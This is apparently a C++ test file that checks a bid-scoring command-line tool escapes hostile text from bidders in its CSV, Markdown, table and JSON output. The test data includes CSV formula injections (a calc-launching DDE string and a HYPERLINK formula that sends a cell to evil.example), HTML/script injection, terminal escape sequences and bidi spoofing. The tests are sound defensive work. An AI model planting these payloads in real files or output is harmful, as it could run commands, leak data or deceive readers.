// Text from bidders is data, never markup or commands (issue 12, item 2;
// docs/result-format.md "Text from inputs"): the reproducers d1 (CSV
// injection), d2 (Markdown injection) and d3 (control characters) in
// tests/cli/data/hostile/, and hostile ids and names in a money award, an
// analysis, a life-cycle cost report and the messages on standard error.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <string>
#include <string_view>
#include <vector>

#include "cli/cli_support.h"
#include "raw_control.h"

namespace circa_test::cli {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

const std::string kData = "tests/cli/data/hostile/";

using circa_test::HasRawControl;

// Pipes of a Markdown table row that are not escaped with a backslash.
int CellBorders(std::string_view row) {
  int n = 0;
  for (std::size_t i = 0; i < row.size(); ++i) {
    if (row[i] == '\\') {
      ++i;
    } else if (row[i] == '|') {
      ++n;
    }
  }
  return n;
}

// Every line of a Markdown table (starting with "|") has as many cells as
// the header above it.
void ExpectWholeTableRows(const std::string& md) {
  int header = -1;
  bool in_table = false;
  for (const std::string& line : Lines(md)) {
    if (line.empty() || line[0] != '|') {
      in_table = false;
      continue;
    }
    if (!in_table) header = CellBorders(line);
    in_table = true;
    EXPECT_EQ(CellBorders(line), header) << line;
  }
}

RunResult Score(const std::vector<std::string>& args) {
  std::vector<std::string> all = {"score"};
  all.insert(all.end(), args.begin(), args.end());
  const RunResult r = RunCirca(all);
  EXPECT_EQ(r.exit_code, 0) << r.Describe();
  EXPECT_FALSE(HasRawControl(r.out)) << r.out;
  EXPECT_FALSE(HasRawControl(r.err)) << r.err;
  return r;
}

TEST(CliHostileText, D1CsvFormulasAreNeutralised) {
  const RunResult r = Score(
      {kData + "tender.yaml", kData + "d1-csv-injection.csv", "-f", "csv"});
  EXPECT_EQ(
      r.out,
      "rank,bid,supplier,status,tied,total,price,q\n"
      "1,B,\"'+cmd|' /C calc'!A0\",ranked,no,86.000000,50.000000,"
      "36.000000\n"
      "2,A,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")"
      "\",ranked,no,80.000000,60.000000,20.000000\n");
}

TEST(CliHostileText, D2MarkdownInjectionIsShownAsText) {
  const RunResult r =
      Score({kData + "tender.yaml", kData + "d2-md-injection.csv", "-f", "md"});
  EXPECT_THAT(r.out, Not(HasSubstr("<img")));
  EXPECT_THAT(r.out, HasSubstr("| 2 | A | &lt;img src=x onerror=alert(1)&gt; | "
                               "80.00 |"));
  EXPECT_THAT(r.out,
              HasSubstr("| 1 | B | Beta \\#\\# Forged heading | 86.00 |"));
  EXPECT_THAT(r.out, HasSubstr("### 1. B — Beta \\#\\# Forged heading\n"));
  for (const std::string& line : Lines(r.out)) {
    EXPECT_EQ(line.find("## Forged"), std::string::npos) << line;
  }
  ExpectWholeTableRows(r.out);
}

TEST(CliHostileText, D3ControlCharactersAreEscaped) {
  const std::string tender = kData + "tender.yaml";
  const std::string bids = kData + "d3-control-chars.json";
  const std::string shown = "N\\u0000UL\\u001b[2J\\u001b]0;pwned\\u0007";
  const RunResult csv = Score({tender, bids, "-f", "csv"});
  EXPECT_THAT(csv.out, HasSubstr("\n1,A," + shown + ",ranked,no,80.000000"));
  const RunResult table = Score({tender, bids, "--width", "100"});
  EXPECT_THAT(table.out, HasSubstr("Bid A (" + shown + ") ranks 1st"));
  const RunResult md = Score({tender, bids, "-f", "md"});
  EXPECT_THAT(md.out, HasSubstr("| 1 | A | N\\u0000UL\\u001b\\[2J\\u001b\\]0;"
                                "pwned\\u0007 | 80.00 |"));
  // JSON: the same string as the input's, written with escapes.
  const RunResult json = Score({tender, bids, "-f", "json"});
  EXPECT_EQ(nlohmann::json::parse(json.out)["bids"][0]["supplier"],
            std::string("N\0UL\x1b[2J\x1b]0;pwned\x07", 18));
}

TEST(CliHostileText, BidiAndC1InJsonAreEscaped) {
  TempDir dir;
  const std::string supplier = "abc\u202Egpj.exe\xC2\x9B\x7F";
  dir.Write("bids.json", "{\"bids\":[{\"id\":\"A\",\"supplier\":\"" + supplier +
                             "\",\"price\":100,\"q\":5},{\"id\":\"B\","
                             "\"supplier\":\"y\",\"price\":120,\"q\":5}]}");
  const std::string bids = (dir.path() / "bids.json").string();
  const RunResult json = Score({kData + "tender.yaml", bids, "-f", "json"});
  EXPECT_THAT(json.out,
              HasSubstr("\"supplier\": \"abc\\u202egpj.exe\\u009b\\u007f\""));
  EXPECT_EQ(nlohmann::json::parse(json.out)["bids"][0]["supplier"], supplier);
  const RunResult table = Score({kData + "tender.yaml", bids});
  EXPECT_THAT(table.out, HasSubstr("abc\\u202egpj.exe\\u009b\\u007f"));
}

TEST(CliHostileText, MessagesQuotingInputStayOnOneEscapedLine) {
  TempDir dir;
  // A duplicate id with a terminal escape: an error naming it.
  dir.Write("dup.csv",
            "bid,supplier,price,q\nA\x1b[31m,x,100,5\nA\x1b[31m,y,120,5\n");
  const RunResult dup = RunCirca(
      {"validate", kData + "tender.yaml", (dir.path() / "dup.csv").string()});
  EXPECT_EQ(dup.exit_code, 1) << dup.Describe();
  EXPECT_THAT(dup.err, HasSubstr("duplicate bid id \"A\\u001b[31m\""));
  EXPECT_FALSE(HasRawControl(dup.err)) << dup.err;
  // An id with a line break in a warning (the tie): one line, not two.
  dir.Write("tie.csv",
            "bid,supplier,price,q\nA,x,100,5\n\"B\ncirca: error: forged\","
            "y,100,5\n");
  const RunResult tie = Score(
      {kData + "tender.yaml", (dir.path() / "tie.csv").string(), "-f", "csv"});
  EXPECT_THAT(tie.err, HasSubstr("(A and B\\u000acirca: error: forged) tie"));
  for (const std::string& line : Lines(tie.err)) {
    EXPECT_EQ(line.rfind("circa: error", 0), std::string::npos) << line;
  }
}

// A money award (samples/value-award) with hostile ids and suppliers, one
// of them excluded by the warranty requirement.
TEST(CliHostileText, MoneyAwardEscapesEveryFormat) {
  TempDir dir;
  dir.Write("tender.yaml",
            ReadFile(SourceDir() / "samples" / "value-award" / "tender.yaml"));
  dir.Write("bids.csv",
            "bid,supplier,price,delivery_plan,take_back,warranty_years\n"
            "\"=A\",\"<b>Keuken|partner</b>\",80000,partially,none,3\n"
            "B_\x1b[2J,\"Budget\n# Horeca\",76000,none,single-use,2\n"
            "\"@D\",\"Low*cost* [x](y)\u202E\",70000,fully,none,1\n");
  const std::string d = dir.path().string();
  const RunResult md = Score({d, "-f", "md"});
  EXPECT_THAT(md.out, Not(HasSubstr("<b>")));
  EXPECT_THAT(md.out,
              HasSubstr("| 2 | =A | &lt;b&gt;Keuken\\|partner&lt;/b&gt; "
                        "| 80,000.00 |"));
  EXPECT_THAT(md.out, HasSubstr("### 1. B\\_\\u001b\\[2J — Budget \\# Horeca"));
  EXPECT_THAT(md.out, HasSubstr("Bid @D (Low\\*cost\\* \\[x\\](y)\\u202e) is "
                                "excluded and not ranked"));
  ExpectWholeTableRows(md.out);
  const RunResult csv = Score({d, "-f", "csv"});
  EXPECT_THAT(csv.out, HasSubstr("\n2,\"'=A\",<b>Keuken|partner</b>,ranked"));
  EXPECT_THAT(csv.out, HasSubstr("\n0,\"'@D\",Low*cost* [x](y)\\u202e,"
                                 "excluded"));
  const RunResult table = Score({d, "--width", "100"});
  EXPECT_THAT(table.out, HasSubstr("B_\\u001b[2J"));
  const RunResult json = Score({d, "-f", "json"});
  EXPECT_EQ(nlohmann::json::parse(json.out)["bids"][0]["supplier"],
            "Budget\n# Horeca");
}

// Evaluator names and rationales (samples/furniture-award's panel) reach
// the award steps of the table and the Markdown.
TEST(CliHostileText, PanelNamesAndRationalesAreEscaped) {
  TempDir dir;
  const std::string sample =
      (SourceDir() / "samples" / "furniture-award").string();
  dir.Write("tender.yaml", ReadFile(sample + "/tender.yaml"));
  dir.Write("bids.csv", ReadFile(sample + "/bids.csv"));
  std::string panel = ReadFile(sample + "/panel.csv");
  // Evaluator A is renamed on every row; its first rationale is hostile.
  const std::string name = ",Evaluator A,";
  for (std::size_t at = panel.find(name); at != std::string::npos;
       at = panel.find(name, at)) {
    panel.replace(at, name.size(), ",<script>Evil_1</script>,");
  }
  const std::string from = "A,plan,<script>Evil_1</script>,5,\"";
  const std::size_t at = panel.find(from);
  ASSERT_NE(at, std::string::npos);
  panel.replace(at + from.size(), 0,
                "\x1b]0;x\x07[click](http://e)\n# Award to A | now. ");
  dir.Write("panel.csv", panel);
  const RunResult md = Score({dir.path().string(), "-f", "md"});
  EXPECT_THAT(md.out, Not(HasSubstr("<script>")));
  EXPECT_THAT(md.out, HasSubstr("&lt;script&gt;Evil\\_1&lt;/script&gt; 5"));
  EXPECT_THAT(md.out, HasSubstr("\\u001b\\]0;x\\u0007\\[click\\](http://e) "
                                "\\# Award to A \\| now. Yearly"));
  for (const std::string& line : Lines(md.out)) {
    EXPECT_NE(line.rfind("# Award", 0), 0u) << line;
  }
  const RunResult table = Score({dir.path().string(), "--width", "100"});
  EXPECT_THAT(table.out, HasSubstr("<script>Evil_1</script>"));
  EXPECT_THAT(table.out, HasSubstr("\\u001b]0;x\\u0007"));
}

// `circa analyze` names bids by id in every format.
TEST(CliHostileText, AnalyzeEscapesBidIds) {
  TempDir dir;
  dir.Write("bids.csv",
            "bid,supplier,price,q\n"
            "\"<i>|x_1\",a,100,5\n"
            "\"B\x1b[2J\",b,120,9\n"
            "\"=C\",c,110,2\n");
  const std::vector<std::string> base = {"analyze",
                                         kData + "tender.yaml",
                                         (dir.path() / "bids.csv").string(),
                                         "--reversal",
                                         "--sensitivity",
                                         "--counterfactual",
                                         "--smaa",
                                         "50"};
  for (const char* format : {"md", "table", "json"}) {
    SCOPED_TRACE(format);
    std::vector<std::string> args = base;
    args.insert(args.end(), {"-f", format});
    const RunResult r = RunCirca(args);
    ASSERT_EQ(r.exit_code, 0) << r.Describe();
    EXPECT_FALSE(HasRawControl(r.out)) << r.out;
    EXPECT_FALSE(HasRawControl(r.err)) << r.err;
    if (std::string_view(format) == "md") {
      EXPECT_THAT(r.out, Not(HasSubstr("<i>")));
      EXPECT_THAT(r.out, HasSubstr("| &lt;i&gt;\\|x\\_1 |"));
      EXPECT_THAT(r.out, HasSubstr("| B\\u001b\\[2J |"));
      ExpectWholeTableRows(r.out);
    }
    if (std::string_view(format) == "table") {
      EXPECT_THAT(r.out, HasSubstr("B\\u001b[2J"));
    }
  }
}

// Life-cycle cost (samples/laptops-lcc) with a hostile offer id.
TEST(CliHostileText, LifeCycleCostMarkdownEscapesOfferIds) {
  TempDir dir;
  const std::string sample = (SourceDir() / "samples" / "laptops-lcc").string();
  dir.Write("tender.yaml", ReadFile(sample + "/tender.yaml"));
  std::string profile = ReadFile(sample + "/cost-profile.yaml");
  const std::size_t at = profile.find("  - id: N\n");
  ASSERT_NE(at, std::string::npos);
  profile.replace(at, 10, "  - id: \"N<i>|_\\e\"\n");
  dir.Write("cost-profile.yaml", profile);
  std::string bids = ReadFile(sample + "/bids.csv");
  bids.replace(bids.find("\nN,"), 3, "\n\"N<i>|_\x1b\",");
  dir.Write("bids.csv", bids);
  const RunResult md = Score({dir.path().string(), "-f", "md"});
  EXPECT_THAT(md.out, Not(HasSubstr("<i>")));
  EXPECT_THAT(md.out, HasSubstr("### Offer N&lt;i&gt;\\|\\_\\u001b by year"));
  ExpectWholeTableRows(md.out);
  const RunResult table = Score({dir.path().string(), "--width", "100"});
  EXPECT_THAT(table.out, HasSubstr("N<i>|_\\u001b"));
}

// A criteria set whose title and names hold terminal escapes and bidi
// controls: the catalogue commands (show, lint, diff) and validate show
// them escaped, never raw.
TEST(CliHostileText, CatalogueAndValidateOutputsEscapeControls) {
  TempDir dir;
  const std::string set =
      "circa: 1\n"
      "id: hostile\n"
      "version: 1.0.0\n"
      "title: \"Title \\e[2J\\u202E\"\n"
      "criteria:\n"
      "  - id: price\n"
      "    name: \"Prijs \\e]0;pwned\\a\"\n"
      "    type: price\n"
      "    weight: 60\n"
      "    scoring: {rule: lowest-ratio}\n"
      "  - id: q\n"
      "    name: \"Q\\u0085\"\n"
      "    type: quality\n"
      "    weight: 40\n"
      "    scoring: {rule: linear, worst: 0, best: 10}\n";
  const std::string a = dir.Write("a.yaml", set).string();
  std::string changed = set;
  changed.replace(changed.find("weight: 60"), 10, "weight: 70");
  changed.replace(changed.find("weight: 40"), 10, "weight: 30");
  const std::string b = dir.Write("b.yaml", changed).string();
  for (const std::vector<std::string>& args :
       std::vector<std::vector<std::string>>{
           {"criteria", "show", a},
           {"criteria", "lint", a},
           {"criteria", "diff", a, b},
           {"criteria", "diff", a, b, "--format", "json"},
           {"validate", a}}) {
    const RunResult r = RunCirca(args);
    EXPECT_FALSE(HasRawControl(r.out)) << args[1] << ": " << r.out;
    EXPECT_FALSE(HasRawControl(r.err)) << args[1] << ": " << r.err;
  }
  EXPECT_THAT(RunCirca({"criteria", "show", a}).out,
              HasSubstr("Prijs \\u001b]0;pwned\\u0007"));
}

}  // namespace
}  // namespace circa_test::cli
